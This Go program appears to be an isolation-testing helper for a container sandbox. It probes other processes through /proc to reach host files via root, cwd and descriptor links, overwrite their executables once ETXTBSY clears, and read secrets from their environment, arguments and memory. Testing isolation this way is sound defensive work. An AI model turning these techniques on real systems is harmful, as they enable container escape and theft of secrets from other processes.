// Command attacker runs inside the containers of the attacks.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) < 2 {
		return
	}
	switch os.Args[1] {
	case "look":
		look(os.Args[2])
	case "exe":
		exe(os.Args[2])
	case "peek":
		peek(os.Args[2], os.Args[3])
	}
}

var said = map[string]bool{}

func say(what string) {
	if !said[what] {
		said[what] = true
		fmt.Println(what)
	}
}

// others are the processes that are not this one.
func others() (pids []string) {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	for _, n := range names {
		if p, err := strconv.Atoi(n); err == nil && p != os.Getpid() {
			pids = append(pids, n)
		}
	}
	return pids
}

// look tries for ever to reach a host's file through what others hold: descriptors, root and working directory.
func look(marker string) {
	fmt.Println("ready")
	read := func(kind, dir string) {
		data, err := os.ReadFile(dir + marker)
		if err == nil && bytes.Contains(data, []byte("HOST-MARKER")) {
			say("REACHED by " + kind)
		}
	}
	for {
		for _, pid := range others() {
			read("root", "/proc/"+pid+"/root")
			read("cwd", "/proc/"+pid+"/cwd/../../../../../../../../..")
			fds, err := os.ReadDir("/proc/" + pid + "/fd")
			if err != nil {
				continue
			}
			for _, fd := range fds {
				name := "/proc/" + pid + "/fd/" + fd.Name()
				if to, err := os.Readlink(name); err == nil && to[0] == '/' && fd.Name() > "2" {
					say("seen " + fd.Name() + " -> " + to)
				}
				read("fd "+fd.Name(), name+"/../../../../../../../../..")
			}
		}
	}
}

// exe takes hold of each executable that is not its own, and writes to it as soon as nobody executes it.
//
// Only what lies below dir, the test's own folder, is ever written.
func exe(dir string) {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		panic(err)
	}
	fmt.Println("ready")
	for {
		for _, pid := range others() {
			name := "/proc/" + pid + "/exe"
			st, err := os.Stat(name)
			if err != nil || os.SameFile(st, own) {
				continue
			}
			to, _ := os.Readlink(name)
			if !strings.HasPrefix(to, dir+"/") {
				if to != "/bin/busybox" {
					say("seen " + to)
				}
				continue
			}
			f, err := os.Open(name)
			if err != nil {
				fmt.Println("denied", err)
				continue
			}
			fmt.Println("held", to)
			again := "/proc/self/fd/" + strconv.Itoa(int(f.Fd()))
			_ = os.Chmod(again, 0o777)
			for range 400 {
				w, err := os.OpenFile(again, os.O_WRONLY|os.O_APPEND, 0)
				if err == nil {
					if _, err = w.WriteString("OVERWRITTEN"); err == nil {
						fmt.Println("WROTE", to)
					}
					w.Close()
				}
				if !errors.Is(err, syscall.ETXTBSY) {
					break
				}
				time.Sleep(time.Millisecond)
			}
			f.Close()
		}
	}
}

// peek tries for ever to read a word of the host's in what the kernel tells of others: their environment, arguments and
// memory maps, and the mounts that they see; and a secret in their memory, which is told backwards, so that it is in no
// configuration.
func peek(word, backwards string) {
	b := []byte(backwards)
	slices.Reverse(b)
	secret := string(b)
	fmt.Println("ready")
	for {
		for _, pid := range others() {
			if inMemory(pid, secret) {
				say("READ in memory")
			}
			for _, f := range []string{"environ", "cmdline", "maps", "mountinfo", "mounts", "mountstats", "cgroup"} {
				if data, err := os.ReadFile("/proc/" + pid + "/" + f); err == nil && (bytes.Contains(data, []byte(word)) || bytes.Contains(data, []byte(secret))) {
					say("READ in " + f)
				}
			}
		}
	}
}

// inMemory looks for a secret in what another process may write to.
func inMemory(pid, secret string) bool {
	mem, err := os.Open("/proc/" + pid + "/mem")
	if err != nil {
		return false
	}
	defer mem.Close()
	maps, _ := os.ReadFile("/proc/" + pid + "/maps")
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		if n, _ := fmt.Sscanf(line, "%x-%x rw", &from, &to); n < 2 || !strings.Contains(line, " rw") {
			continue
		}
		text := make([]byte, min(to-from, 8<<20))
		n, _ := mem.ReadAt(text, from)
		if bytes.Contains(text[:n], []byte(secret)) {
			return true
		}
	}
	return false
}
